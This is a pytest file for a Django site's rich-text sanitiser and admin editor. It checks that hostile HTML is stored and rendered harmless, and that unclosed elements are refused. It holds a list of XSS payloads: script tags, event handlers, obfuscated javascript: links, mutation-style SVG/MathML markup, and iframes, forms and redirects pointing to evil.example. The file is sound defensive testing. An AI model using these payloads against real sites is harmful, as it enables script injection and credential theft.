"""Rich text: the editor widget (no CDN, no inline script) and the server-side allow-list."""

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from django.utils import translation

from publishing.richtext import ALLOWED_TAGS, sanitize_html
from tests.admin_helpers import errors_of, form_data
from tests.factories import PageFactory, ThemeFactory, TopicFactory

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">klik</p>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="jav&#x09;ascript:alert(1)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">link</a>',
    '<a href="  javascript:alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<p style="background:url(javascript:alert(1))">stijl</p>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="pw"><button>Go</button></form>',
    "<template><script>alert(1)</script></template>",
    "{{ 7*7 }}{% debug %}<p>${alert(1)}</p>",
    '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<details open ontoggle="alert(1)">x</details>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
]

DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
# Its <style> is never closed: in a form or an import it is refused (below), not cut short.
LEFT_OPEN = "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"


def assert_inert(html):
    """Only allow-listed tags, no event handlers or styles, and only safe link schemes."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in ALLOWED_TAGS, (tag.name, html)
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), html
            assert attribute.lower() not in {"style", "srcdoc", "src", "action"}, html
            if attribute == "href":
                assert not value.strip().lower().startswith(DANGEROUS_SCHEMES), html
    assert "<script" not in html.lower()


@pytest.mark.parametrize("payload", XSS_VECTORS)
def test_hostile_html_comes_out_inert(payload):
    assert_inert(sanitize_html(payload))


def test_the_allowed_structure_survives():
    html = (
        "<h2>Kop</h2><h3>Sub</h3><p>Tekst met <strong>vet</strong> en <em>schuin</em>.</p>"
        "<ul><li>een</li></ul><ol><li>twee</li></ol><blockquote><p>citaat</p></blockquote>"
        '<p><a href="https://stad.gent/">Stad Gent</a></p>'
    )
    clean = sanitize_html(html)
    for fragment in ("<h2>Kop</h2>", "<strong>vet</strong>", "<em>schuin</em>", "<li>een</li>",
                     "<blockquote>", 'href="https://stad.gent/"'):  # fmt: skip
        assert fragment in clean


@pytest.mark.django_db
@pytest.mark.parametrize(
    "factory", [ThemeFactory, TopicFactory, PageFactory], ids=["theme", "topic", "service page"]
)
def test_posted_hostile_body_is_stored_sanitised_and_rendered_inert(client, editor, soup, factory):
    obj = factory()
    url = reverse(f"admin:{obj._meta.app_label}_{obj._meta.model_name}_change", args=[obj.pk])
    payload = "<h2>Veilig</h2>" + "".join(v for v in XSS_VECTORS if v != LEFT_OPEN)
    data = form_data(client.get(url))
    data.update(body_nl=payload, body_en=payload)
    response = client.post(url, data)
    assert response.status_code == 302, errors_of(response)
    obj.refresh_from_db()
    assert "<h2>Veilig</h2>" in obj.body_nl
    assert_inert(obj.body_nl)
    assert_inert(obj.body_en)
    client.logout()
    for language in ("nl", "en"):
        with translation.override(language):
            page = soup(client.get(obj.get_absolute_url()))
        assert_inert(page.select_one(".rich-text").decode_contents())


@pytest.mark.django_db
def test_the_editor_is_served_from_static_files_without_inline_script(client, editor, soup):
    theme = ThemeFactory()
    page = soup(client.get(reverse("admin:strategy_theme_change", args=[theme.pk])))
    body = page.select_one("[name=body_nl]")
    assert body.has_attr("data-django-prose-editor-gent")
    assert '"Heading":{"levels":[2,3,4]}' in body["data-django-prose-editor-gent"]
    scripts = page.find_all("script")
    for script in scripts:
        if script.get("type") == "application/json":
            continue
        assert script.get("src"), f"inline script: {script}"
        assert script["src"].startswith("/"), "every script comes from this site, none from a CDN"
    assert any(s["src"].endswith("strategy/admin/prose-editor.js") for s in scripts)
    assert page.find("script", type="importmap") is None


UNCLOSED = [
    ("<p>Inleiding.</p><style>p { color: red }<p>Alles hierna.</p>", "<style>"),
    ("<p>Inleiding.</p><script>alert(1)<p>Alles hierna.</p>", "<script>"),
    ("<p>Inleiding.</p><!-- nota <p>Alles hierna.</p>", "<!--"),
    ('<p>Inleiding <a href="https://stad.gent>link</a>.</p><p>Alles hierna.</p>', "<a href="),
    (f"<p>Inleiding.</p>{LEFT_OPEN}<p>Alles hierna.</p>", "<"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("body", "culprit"), UNCLOSED)
def test_an_unclosed_element_is_refused_in_the_admin_not_cut_short(
    client, editor, soup, body, culprit
):
    """Before: the sanitiser dropped everything after the open element and the save succeeded."""
    theme = ThemeFactory(body_nl="<p>Oud.</p>")
    url = reverse("admin:strategy_theme_change", args=[theme.pk])
    data = form_data(client.get(url))
    data["body_nl"] = body
    response = client.post(url, data)
    assert response.status_code == 200
    errors = " ".join(errors_of(response))
    assert culprit in errors and "niet gesloten" in errors, errors
    typed = soup(response).select_one("[name=body_nl]").get_text()
    assert "Alles hierna." in typed, "the editor's text comes back in the form"
    theme.refresh_from_db()
    assert theme.body_nl == "<p>Oud.</p>"


@pytest.mark.django_db
def test_a_closed_style_element_is_still_just_removed(client, editor):
    theme = ThemeFactory()
    url = reverse("admin:strategy_theme_change", args=[theme.pk])
    data = form_data(client.get(url))
    data["body_nl"] = "<p>Een.</p><style>p { color: red }</style><p>Twee.</p>"
    response = client.post(url, data)
    assert response.status_code == 302, errors_of(response)
    theme.refresh_from_db()
    assert theme.body_nl == "<p>Een.</p><p>Twee.</p>"
